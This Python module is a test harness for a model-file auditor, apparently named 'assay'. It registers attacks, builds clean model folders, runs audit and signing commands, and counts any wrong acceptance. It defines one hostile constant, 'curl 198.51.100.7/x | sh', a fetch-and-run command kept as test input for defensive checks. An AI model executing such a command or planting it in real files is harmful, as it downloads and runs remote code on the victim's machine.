"""What an attack that wants a yes is, and what many of them begin with."""

from __future__ import annotations

import json
import tempfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.builders import safetensors
from tests.builders.command import run
from tests.builders.keys import private

CURL, ECHO = "curl 198.51.100.7/x | sh", "echo hello"


@dataclass(frozen=True, slots=True)
class Answer:
    """What assay said, and whether that is a yes which it should not have said."""

    said: str
    wrong: bool


@dataclass(frozen=True, slots=True)
class Attack:
    """One attack, built and run in a folder of its own."""

    name: str
    run: Callable[[Path], Answer]


ATTACKS: list[Attack] = []


def attack(name: str) -> Callable[[Callable[[Path], Answer]], Callable[[Path], Answer]]:
    """List a function as the attack of this name."""

    def listed(function: Callable[[Path], Answer]) -> Callable[[Path], Answer]:
        ATTACKS.append(Attack(name, function))
        return function

    return listed


def model(folder: Path, **files: bytes) -> Path:
    """A model without a defect, and the files that are given (`__` for a dot, `___` for a slash)."""
    own = {"config.json": b'{"model_type": "llama"}', "model.safetensors": safetensors({"w": ("F32", (4, 4))})}
    for name, raw in {**own, **{key.replace("___", "/").replace("__", "."): raw for key, raw in files.items()}}.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(raw)
    return folder


def asked(at: Path, *arguments: str, **env: str) -> tuple[int, str]:
    """(exit status, the first line that tells it) of a command that is run in `at`."""
    done = run(*arguments, cwd=at, **env)
    lines = [line.strip() for line in (done.stdout + done.stderr).splitlines() if line.strip()]
    return done.returncode, f"exit {done.returncode}: {lines[0][:110] if lines else 'nothing said'}"


def no(at: Path, *arguments: str) -> Answer:
    """The answer to a command that must not exit with 0."""
    status, said = asked(at, *arguments)
    return Answer(said, status == 0)


def must(at: Path, *arguments: str) -> None:
    """Prepare an attack with a command (SystemExit: it did not do what it is for)."""
    status, said = asked(at, *arguments)
    if status == 2 or status > 3:
        raise SystemExit(f"{' '.join(arguments)}: {said}")


def dossier(at: Path, name: str, *options: str) -> dict[str, Any]:
    """The dossier of an audit of `m`, as JSON in the file `name` too."""
    must(at, "audit", "m", "-q", "-o", f"json={name}", *options)
    found: dict[str, Any] = json.loads((at / name).read_text())
    return found


def signed(at: Path, **files: bytes) -> None:
    """A model `m`, signed with `k.pem` in `m.sig`."""
    model(at / "m", **files)
    private(at / "k.pem")
    private(at / "other.pem")
    must(at, "sign", "m", "--key", "k.pem", "-o", "m.sig")


def main(words: list[str]) -> int:
    """Print a line for each attack whose name holds every word; returns how many got a wrong yes."""
    chosen = [row for row in ATTACKS if all(word in row.name for word in words)]
    wrong = 0
    for row in chosen:
        with tempfile.TemporaryDirectory() as folder:
            answer = row.run(Path(folder))
        wrong += answer.wrong
        print(f"{'WRONG YES' if answer.wrong else 'refused':<10} {row.name:<64} {answer.said}", flush=True)
    print(f"{len(chosen)} attacks, {wrong} wrong yes")
    return wrong
